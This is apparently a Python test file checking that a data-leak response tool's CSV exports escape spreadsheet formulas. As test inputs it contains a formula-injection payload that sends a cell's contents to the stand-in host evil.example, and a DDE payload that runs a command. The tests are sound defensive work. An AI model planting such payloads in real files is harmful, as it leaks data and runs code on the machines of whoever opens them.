"""Tables of a bundle: what others wrote is shown by a spreadsheet, and never computed."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leaktrace.records import ExposedCustomer, shown_cell
from leaktrace.response.bundle.inputs import BundledAccess
from leaktrace.response.bundle.tables import accesses_csv, names_csv
from leaktrace.tracing.exposing import exposure_table

AT = datetime(2026, 3, 1, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ticket")'


def test_a_reason_and_an_id_are_no_formulas() -> None:
    access = BundledAccess(AT, "=cmd|' /C calc'!A0", "@c1", ("email",), "crm", FORMULA, "ab" * 32, 7)
    (row,) = csv.DictReader(io.StringIO(accesses_csv([access]).decode()))
    assert row["reason"] == f"'{FORMULA}"
    assert row["principal"] == "'=cmd|' /C calc'!A0"
    assert row["customer"] == "'@c1"
    assert row["source_row"] == "7"
    (name,) = csv.DictReader(io.StringIO(names_csv({"P-1": "+1-2"}).decode()))
    assert name["id_as_ingested"] == "'+1-2"
    listed = exposure_table((ExposedCustomer("=1+1", "confirmed", AT, ("email",)),))
    assert "'=1+1," in listed


@pytest.mark.parametrize("text", ["12", "-12", "+3.5", "c-1", "", "a=b", "'=x"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert shown_cell(text) == text


@given(st.text(max_size=20))
def test_the_text_is_always_there(text: str) -> None:
    assert shown_cell(text) in (text, f"'{text}")
